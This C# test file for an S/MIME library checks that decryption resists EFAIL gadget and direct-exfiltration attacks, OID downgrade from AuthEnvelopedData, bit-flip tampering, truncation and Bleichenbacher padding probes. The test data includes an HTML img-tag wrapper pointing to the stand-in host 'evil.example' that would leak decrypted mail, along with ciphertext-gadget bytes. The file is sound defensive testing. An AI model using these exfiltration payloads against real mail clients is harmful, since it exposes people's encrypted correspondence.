using System.Security.Cryptography;
using Postern.Mail.Smime.Open;
using Postern.Mail.Smime.Seal;
using Postern.Tests.Mail.Smime.Seal;

namespace Postern.Tests.Mail.Smime.Open;

/// <summary>EFAIL: whoever changes what nothing protects, must not get it opened with his own words around it.</summary>
public sealed class Cve_2017_17689_efail
{
    const int Changes = 300;

    const int Block = 16;

    static readonly SealOptions Options = new() { SigningTime = People.Now };

    /// <summary>The gadget of the paper: a known block is turned into one of the attacker's, at the price of a block of chance before it.</summary>
    [Fact]
    public async Task A_block_of_the_attackers_opens_nothing()
    {
        var sealedEntity = await Sealing.Seal(Sealing.Entity(4_000), null, [new(People.P256.Certificate)], Options with { Cipher = ContentCipher.Aes256Cbc });
        var cms = Opening.Cms(sealedEntity);
        var content = cms.Length - 3_000;
        for (var shift = 0; shift < Block; shift++)
        {
            var changed = cms.ToArray();
            for (var at = 0; at < Block; at++) changed[content + shift + at] ^= "<img src=evil?x="u8[at];

            Assert.Equal(RefusedWhy.CannotDecrypt, Opening.Refused(Opening.Entity("enveloped-data", changed), People.P256));
        }
    }

    /// <summary>One part clear, one encrypted: what is inside another multipart is not opened, so nothing can stand around it.</summary>
    [Fact]
    public async Task Nothing_is_opened_between_parts_of_somebody_else()
    {
        var sealedEntity = await Sealing.Seal(Sealing.Entity(100), null, [new(People.P256.Certificate)], Options);
        byte[] wrapped =
        [
            .. "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"https://evil.example/\r\n--x\r\n"u8,
            .. sealedEntity, .. "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n"u8,
        ];

        Assert.IsType<OpenAnswer.NotSmime>(Opening.Open(wrapped, People.P256));
    }

    /// <summary>AuthEnvelopedData relabelled as EnvelopedData, so that nobody asks for the tag, is no way in.</summary>
    [Fact]
    public async Task A_tag_that_is_taken_away_opens_nothing()
    {
        var cms = Opening.Cms(await Sealing.Seal(Sealing.Entity(100), null, [new(People.P256.Certificate)], Options));
        var oid = cms.AsSpan().IndexOf(new byte[] { 0x06, 0x0B, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x09, 0x10, 0x01, 0x17 });
        Assert.True(oid >= 0);
        byte[] relabelled = [.. cms[..oid], 0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x07, 0x03, .. cms[(oid + 13)..]];

        Assert.IsType<OpenAnswer.Refused>(Opening.Open(Opening.Entity("enveloped-data", relabelled), People.P256));
    }

    [Theory]
    [InlineData(ContentCipher.Aes256Gcm)]
    [InlineData(ContentCipher.Aes256Cbc)]
    public async Task Three_hundred_changed_messages_are_refused_or_unsigned_and_none_shows_other_words(ContentCipher cipher)
    {
        var entity = Sealing.Entity(2_000);
        var sealedEntity = await Sealing.Seal(entity, People.P256, [new(People.Rsa.Certificate)], Options with { Cipher = cipher });
        var cms = Opening.Cms(sealedEntity);
        for (var change = 0; change < Changes; change++)
        {
            var changed = cms.ToArray();
            changed[(int)((long)change * changed.Length / Changes)] ^= (byte)(1 << (change % 8)); // one bit, all over the message
            var answer = Opening.Open(Opening.Entity("authEnveloped-data", changed), People.Rsa);

            // Nothing of AuthEnvelopedData may change. Of EnvelopedData, whose only guard is the signature inside, what that does not cover may: then the mail is whole.
            if (cipher == ContentCipher.Aes256Gcm) Assert.IsType<OpenAnswer.Refused>(answer);
            if (answer is OpenAnswer.Opened { Mail: var mail })
                Assert.True(mail.Content.Span.SequenceEqual(entity) && mail.HasIntegrity, $"change {change} shows other words");
        }
    }

    [Fact]
    public async Task Cut_off_anywhere_it_is_refused()
    {
        var cms = Opening.Cms(await Sealing.Seal(Sealing.Entity(500), People.P256, [new(People.P384.Certificate)], Options));
        for (var length = 0; length < cms.Length; length += 7)
            Assert.IsType<OpenAnswer.Refused>(Opening.Open(Opening.Entity("authEnveloped-data", cms.AsSpan(0, length)), People.P384));
    }

    /// <summary>Bleichenbacher: a key that does not unwrap and a key that is wrong look the same.</summary>
    [Fact]
    public async Task Wrong_padding_is_told_like_a_wrong_key()
    {
        var cms = Opening.Cms(await Sealing.Seal(Sealing.Entity(100), null, [new(People.Rsa.Certificate, RsaTransport.Pkcs1)], Options));
        var key = cms.AsSpan().IndexOf(new byte[] { 0x04, 0x82, 0x01 }); // the wrapped key: an OCTET STRING as long as the modulus
        Assert.True(key >= 0);
        for (var at = 0; at < 64; at++)
        {
            var changed = cms.ToArray();
            RandomNumberGenerator.Fill(changed.AsSpan(key + 8 + at, 8));

            Assert.Equal(RefusedWhy.CannotDecrypt, Opening.Refused(Opening.Entity("authEnveloped-data", changed), People.Rsa));
        }
    }
}
